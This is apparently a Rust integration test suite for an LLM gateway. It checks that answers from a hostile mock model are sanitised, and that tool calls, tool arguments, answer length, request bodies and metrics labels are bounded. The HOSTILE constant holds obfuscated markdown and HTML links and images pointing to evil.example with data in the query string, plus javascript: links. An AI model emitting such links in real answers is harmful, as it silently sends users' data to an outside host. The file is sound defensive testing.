//! What a hostile model can put in front of the user or into storage, through the real gateway
//! over HTTP against a real PostgreSQL, with a mock OpenAI-compatible model: answers cleaned by a
//! Markdown parser and an HTML sanitiser, tool calls bounded per step and per turn, tool arguments
//! bounded before they are echoed or stored, long answers cut with a visible marker; and the HTTP
//! edges the same issue names (`/mcp` body limit, `/metrics` labels). SECURITY_MATRIX F 38, J 58-59.

mod support;

use std::net::SocketAddr;

use serde_json::{json, Value};
use support::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const ALLOW: &[&str] = &["--link-allowlist", "acme.example"];

fn vendor_page() -> Value {
    json!({"pageType": "vendor_table"})
}

/// The stored turn of a conversation: (answer, tool_calls, octet_length of tool_calls).
async fn stored_turn(conversation: &str) -> (String, Value, i32) {
    let row = admin()
        .await
        .query_one(
            "SELECT answer, tool_calls, octet_length(tool_calls::text) FROM ctxguard.conversation_turns
              WHERE conversation_id = $1",
            &[&conversation],
        )
        .await
        .unwrap();
    (row.get(0), row.get(1), row.get(2))
}

async fn chat(gw: SocketAddr, trace: &str, message: &str) -> (u16, Value) {
    post_json(
        gw,
        "/v1/chat",
        Some(&token("alice", "acme", &["ap_clerk"])),
        trace,
        &json!({"message": message, "pageContext": vendor_page()}),
    )
    .await
}

/// Every form that slipped past the regular-expression cleaner, and their combinations.
const HOSTILE: &str = r#"Here is the summary.

![x][1] and [full][2] and [shortcut] and <https://evil.example/auto> and <x@evil.example>
bare https://evil.example/b?d=secret and www.evil.example/w and //evil.example/p
![a [b] c](https://evil.example/n.png) ![a\]b](https://evil.example/e.png)
[ent](https&#58;//evil.example/1) ![col](https&colon;//evil.example/2.png) [js](javascript&colon;alert(1))
[bs](/\evil.example) [bs2](\\\\evil.example) [host](https://evil.example\\.acme.example) [at](https://evil.example\\@acme.example)
[![i](https://evil.example/i.png)](https://docs.acme.example/ok) and [docs](https://docs.acme.example/a)
<a href="https://evil.example/a">raw</a> <img src="https://evil.example/i.png">

<iframe src="https://evil.example/f"></iframe>
<svg><image href="https://evil.example/s.png"/></svg>
<video poster="https://evil.example/v.png"></video>

[1]: https://evil.example/p.png?d=secret
[2]: https&#58;//evil.example/2
[shortcut]: \\\\evil.example/s
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_answer_is_cleaned_before_it_is_shown_or_stored() {
    let mock = Mock::new(vec![Step::Message(
        json!({"role": "assistant", "content": HOSTILE}),
    )]);
    let gw = openai_gateway(&mock, ALLOW).await;
    let (status, body) = chat(
        gw,
        &format!("hostile-answer-{}", uuid::Uuid::new_v4()),
        "hi",
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let answer = body["answer"].as_str().unwrap();
    assert!(!answer.contains("evil"), "{answer}");
    assert!(
        answer.contains("[docs](https://docs.acme.example/a)")
            && answer.contains("(image removed: a \\[b\\] c)")
            && answer.contains("(link removed)"),
        "{answer}"
    );
    // References whose definitions are in another paragraph stay their literal text (each
    // paragraph is judged on its own, as it streams; README "Streamed answers"), and the outside
    // definitions are gone.
    assert!(
        answer.contains("![x][1] and [full][2] and [shortcut]"),
        "{answer}"
    );
    assert!(
        !answer.contains("[1]:") && !answer.contains("[shortcut]:"),
        "{answer}"
    );
    assert_eq!(body["answerTruncated"], false);
    let (stored, _, _) = stored_turn(body["conversationId"].as_str().unwrap()).await;
    assert_eq!(stored, answer, "the stored answer is the cleaned one");

    // Streamed, the answer events carry the same cleaned text.
    let mock = Mock::new(vec![Step::Message(
        json!({"role": "assistant", "content": HOSTILE}),
    )]);
    let gw = openai_gateway(&mock, ALLOW).await;
    let text = http()
        .post(format!("http://{gw}/v1/chat"))
        .bearer_auth(token("alice", "acme", &["ap_clerk"]))
        .header("accept", "text/event-stream")
        .json(&json!({"message": "hi", "pageContext": vendor_page()}))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let streamed: String = text
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<Value>(d).ok())
        .filter_map(|d| d.get("text").and_then(Value::as_str).map(str::to_string))
        .collect();
    assert_eq!(streamed, answer);
}

fn many_calls(n: usize, prefix: &str) -> Value {
    let calls: Vec<Value> = (0..n)
        .map(|i| {
            json!({"id": format!("{prefix}_{i}"), "type": "function",
                        "function": {"name": "vendor__list", "arguments": "{}"}})
        })
        .collect();
    json!({"role": "assistant", "content": null, "tool_calls": calls})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_step_with_300_tool_calls_runs_at_most_the_cap_and_reports_the_rest_refused() {
    // Defaults: 8 calls per step, 24 per turn.
    let mock = Mock::new(vec![
        Step::Message(many_calls(300, "a")),
        Step::Message(many_calls(20, "b")),
        Step::Answer("done"),
    ]);
    let gw = openai_gateway(&mock, &[]).await;
    let trace = format!("many-calls-{}", uuid::Uuid::new_v4());
    let (status, body) = chat(gw, &trace, "list vendors").await;
    assert_eq!(status, 200, "{body}");
    // Gate B saw 8 calls from the first step and 8 from the second: 16 < 24 per turn.
    let audited = audit(&trace).await;
    assert_eq!(audited.len(), 16, "{audited:?}");
    let reports = body["toolCalls"].as_array().unwrap();
    let refused = |r: &&Value| r["code"] == "TOOL_CALL_LIMIT_EXCEEDED";
    let ran: Vec<&Value> = reports.iter().filter(|r| !refused(r)).collect();
    assert_eq!(ran.len(), 16);
    assert!(ran.iter().all(|r| r["decision"] == "allow"), "{ran:?}");
    // Every refused call is accounted for: 292 + 12, each single or folded into a count.
    let refused_calls: u64 = reports
        .iter()
        .filter(refused)
        .map(|r| r.get("count").and_then(Value::as_u64).unwrap_or(1))
        .sum();
    assert_eq!(refused_calls, 292 + 12);
    assert!(reports
        .iter()
        .filter(refused)
        .all(|r| r["decision"] == "deny" && r["arguments"].is_null() && r["callId"].is_null()));
    // Single reports are bounded by the turn's cap; the rest of a step folds into one.
    assert!(reports.len() <= 16 + 24 + 2, "{}", reports.len());
    // The model heard of its 8 calls and of the first refused one, no more.
    let second = mock.requests.lock().unwrap()[1].clone();
    let tool_results: Vec<&Value> = second["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "tool")
        .collect();
    assert_eq!(tool_results.len(), 9);
    assert!(tool_results[8]["content"]
        .as_str()
        .unwrap()
        .contains("TOOL_CALL_LIMIT_EXCEEDED"));
    // And after its second step (all of whose refusals were folded) again of one.
    let third = mock.requests.lock().unwrap()[2].clone();
    let tool_results = third["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "tool")
        .count();
    assert_eq!(tool_results, 9 + 9);

    // The turn's cap: with 10 per step and 12 per turn, the second step runs only 2.
    let mock = Mock::new(vec![
        Step::Message(many_calls(10, "c")),
        Step::Message(many_calls(10, "d")),
        Step::Answer("done"),
    ]);
    let gw = openai_gateway(
        &mock,
        &[
            "--max-tool-calls-per-step",
            "10",
            "--max-tool-calls-per-turn",
            "12",
        ],
    )
    .await;
    let trace = format!("turn-cap-{}", uuid::Uuid::new_v4());
    let (status, body) = chat(gw, &trace, "list vendors").await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(audit(&trace).await.len(), 12);
    let refused = body["toolCalls"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["code"] == "TOOL_CALL_LIMIT_EXCEEDED")
        .count();
    assert_eq!(refused, 8);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_2_mb_tool_argument_is_refused_before_it_is_echoed_or_stored() {
    let huge = "x".repeat(2 * 1024 * 1024);
    let mock = Mock::new(vec![
        Step::Tools(vec![
            ("vendor__list", json!({"note": huge})),
            ("vendor__list", json!({})),
        ]),
        Step::Answer("done"),
    ]);
    let gw = openai_gateway(&mock, &[]).await;
    let trace = format!("huge-arg-{}", uuid::Uuid::new_v4());
    let resp = http()
        .post(format!("http://{gw}/v1/chat"))
        .bearer_auth(token("alice", "acme", &["ap_clerk"]))
        .header("x-request-id", &trace)
        .json(&json!({"message": "list vendors", "pageContext": vendor_page()}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let raw = resp.bytes().await.unwrap();
    assert!(
        raw.len() < 64 * 1024,
        "the response echoes {} bytes",
        raw.len()
    );
    let body: Value = serde_json::from_slice(&raw).unwrap();
    let reports = body["toolCalls"].as_array().unwrap();
    assert_eq!(reports[0]["code"], "TOOL_CALL_TOO_LARGE");
    assert_eq!(reports[0]["decision"], "deny");
    assert!(reports[0]["arguments"].is_null());
    assert_eq!(reports[1]["decision"], "allow");
    // Only the small call reached the database; the big one was never sent anywhere.
    assert_eq!(
        audit(&trace).await,
        [("allow".to_string(), None, Some("vendor.list".to_string()))]
    );
    let (_, stored, bytes) = stored_turn(body["conversationId"].as_str().unwrap()).await;
    assert!(bytes < 4096, "{bytes} bytes stored: {stored}");
    let second = serde_json::to_string(&mock.requests.lock().unwrap()[1]).unwrap();
    assert!(
        second.len() < 64 * 1024,
        "the model got {} bytes back",
        second.len()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_300_kb_answer_is_cut_with_a_visible_marker_and_the_turn_succeeds() {
    let long = "All vendors are in good standing. ".repeat(300 * 1024 / 34);
    let mock = Mock::new(vec![Step::Message(
        json!({"role": "assistant", "content": long}),
    )]);
    let gw = openai_gateway(&mock, &[]).await;
    let (status, body) = chat(gw, &format!("long-{}", uuid::Uuid::new_v4()), "hi").await;
    assert_eq!(status, 200, "{}", body["error"]);
    let answer = body["answer"].as_str().unwrap();
    assert_eq!(body["answerTruncated"], true);
    assert!(answer.len() <= 64 * 1024, "{}", answer.len());
    assert!(
        answer.starts_with("All vendors are in good standing.")
            && answer.ends_with(
                "(answer truncated: the model's answer was longer than the 65536-byte limit)"
            ),
        "{}",
        &answer[answer.len() - 200..]
    );
    let (stored, _, _) = stored_turn(body["conversationId"].as_str().unwrap()).await;
    assert_eq!(stored, answer);

    // The limit is configurable.
    let mock = Mock::new(vec![Step::Message(
        json!({"role": "assistant", "content": long}),
    )]);
    let gw = openai_gateway(&mock, &["--max-answer-bytes", "4096"]).await;
    let (status, body) = chat(gw, &format!("long-{}", uuid::Uuid::new_v4()), "hi").await;
    assert_eq!(status, 200);
    assert!(body["answer"].as_str().unwrap().len() <= 4096);
}

/// Send raw HTTP/1.1 and return the status code and the response text.
async fn raw_http(gw: SocketAddr, head: &str, body: &[u8]) -> (u16, String) {
    let mut stream = tokio::net::TcpStream::connect(gw).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    // The server may answer (and close) before the whole body is sent: that is the point.
    let _ = stream.write_all(body).await;
    let mut out = Vec::new();
    let _ = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        stream.read_to_end(&mut out),
    )
    .await;
    let text = String::from_utf8_lossy(&out).to_string();
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, text)
}

/// POST `body` as raw HTTP/1.1 (with its length, or chunked): the status and the error code. A
/// raw client, because the server answers 413 before the body is sent, which an ordinary client
/// reports as a broken pipe.
async fn raw_post(
    gw: SocketAddr,
    path: &str,
    token: Option<&str>,
    body: &[u8],
    chunked: bool,
) -> (u16, Value) {
    let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
    let (framing, payload) = if chunked {
        let mut p = format!("{:x}\r\n", body.len()).into_bytes();
        p.extend_from_slice(body);
        p.extend_from_slice(b"\r\n0\r\n\r\n");
        ("Transfer-Encoding: chunked".to_string(), p)
    } else {
        (format!("Content-Length: {}", body.len()), body.to_vec())
    };
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\n{framing}\r\nConnection: close\r\n\r\n"
    );
    let (status, text) = raw_http(gw, &head, &payload).await;
    let json = text
        .split_once("\r\n\r\n")
        .and_then(|(_, b)| serde_json::from_str(b).ok())
        .unwrap_or(Value::Null);
    (status, json)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_bodies_over_the_limit_are_413_like_every_other_route() {
    let gw = gateway(&[]).await;
    let alice = token("alice", "acme", &["ap_clerk"]);
    let rpc = |pad: usize| {
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"},
            "pad": "x".repeat(pad)}})
        .to_string()
        .into_bytes()
    };
    // 4 MiB (which /mcp used to take), just over 64 KiB, with and without a token, with a length
    // or chunked: 413 PAYLOAD_TOO_LARGE everywhere, as on /v1/chat.
    for (size, token, chunked) in [
        (4 * 1024 * 1024, Some(alice.as_str()), false),
        (4 * 1024 * 1024, None, false),
        (65 * 1024, Some(alice.as_str()), false),
        (80 * 1024, Some(alice.as_str()), true),
    ] {
        for path in ["/v1/chat", "/mcp"] {
            let (status, body) = raw_post(gw, path, token, &rpc(size), chunked).await;
            assert_eq!(
                (status, body["error"]["code"].as_str()),
                (413, Some("PAYLOAD_TOO_LARGE")),
                "{path} {size} {chunked}: {body}"
            );
        }
    }
    let post = |body: Vec<u8>| {
        let alice = alice.clone();
        async move {
            http()
                .post(format!("http://{gw}/mcp"))
                .bearer_auth(alice)
                .header("content-type", "application/json")
                .header("accept", "application/json, text/event-stream")
                .body(body)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    // Under the limit, /mcp works as before.
    assert_eq!(post(rpc(1024)).await, 200);

    // The limit is configurable, the same for every route.
    let gw = gateway(&["--max-body-bytes", "262144"]).await;
    let status = http()
        .post(format!("http://{gw}/mcp"))
        .bearer_auth(&alice)
        .header("content-type", "application/json")
        .header("accept", "application/json, text/event-stream")
        .body(rpc(100 * 1024))
        .send()
        .await
        .unwrap()
        .status()
        .as_u16();
    assert_eq!(status, 200);
    for path in ["/v1/chat", "/mcp"] {
        let (status, _) = raw_post(gw, path, Some(&alice), &rpc(300 * 1024), false).await;
        assert_eq!(status, 413, "{path}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_label_routes_by_template_and_unmatched_paths_once() {
    let gw = gateway(&[]).await;
    let client = http();
    let mut randoms = Vec::new();
    for i in 0..100 {
        let r = uuid::Uuid::new_v4().simple().to_string();
        let path = match i % 4 {
            0 => format!("/{r}"),
            1 => format!("/v1/{r}"),
            2 => format!("/v1/chat/{r}"),
            _ => format!("/.well-known/{r}/x?y={r}"),
        };
        let resp = client
            .get(format!("http://{gw}{path}"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status().as_u16(), 404, "{path}");
        randoms.push(r);
    }
    // A matched route with a parameter counts under its template.
    let (status, _) = post_json(
        gw,
        &format!("/v1/approvals/{}", uuid::Uuid::new_v4()),
        None,
        "m",
        &json!({"pageContext": vendor_page()}),
    )
    .await;
    assert_eq!(status, 401);
    let text = client
        .get(format!("http://{gw}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let lines: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("ctxguard_http_requests_total{"))
        .collect();
    for r in &randoms {
        assert!(!text.contains(r.as_str()), "a random path became a label");
    }
    assert!(
        lines.iter().any(|l| l.contains(r#"route="unmatched""#)
            && l.contains(r#"status="404""#)
            && l.ends_with(" 100")),
        "{lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.contains(r#"route="/v1/approvals/{call_id}""#)),
        "{lines:?}"
    );
    assert!(lines.len() <= 3, "{lines:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_turn_over_the_database_size_limit_is_turn_too_large() {
    // A gateway role of its own whose turns the database limits to 2 KiB (ctxguard.max_turn_bytes
    // is the DBA's; the gateway's bounds allow far more), so no other test sees the setting.
    admin()
        .await
        .batch_execute(
            "DO $$ BEGIN
               IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'ctxguard_gateway_small_turns') THEN
                 CREATE ROLE ctxguard_gateway_small_turns LOGIN IN ROLE ctxguard_gateway;
               END IF;
             END $$;
             ALTER ROLE ctxguard_gateway_small_turns SET ctxguard.max_turn_bytes = 2048;",
        )
        .await
        .unwrap();
    let url = env("CTXGUARD_TEST_DATABASE_URL")
        .replace("user=ctxguard_gateway", "user=ctxguard_gateway_small_turns");
    let mock = Mock::new(vec![Step::Message(
        json!({"role": "assistant", "content": "long enough. ".repeat(300)}),
    )]);
    let base = mock.serve().await;
    let config = <ctxguard_gateway::config::Config as clap::Parser>::try_parse_from([
        "ctxguard-gateway",
        "--database-url",
        &url,
        "--provider",
        "openai",
        "--llm-base-url",
        &base,
    ])
    .unwrap();
    config.validate().unwrap();
    let state = std::sync::Arc::new(ctxguard_gateway::http::AppState::from_config(config).unwrap());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let gw = listener.local_addr().unwrap();
    tokio::spawn(async move {
        ctxguard_gateway::http::serve(listener, state)
            .await
            .unwrap()
    });
    let (status, body) = chat(gw, &format!("small-turns-{}", uuid::Uuid::new_v4()), "hi").await;
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (500, Some("TURN_TOO_LARGE")),
        "{body}"
    );
}
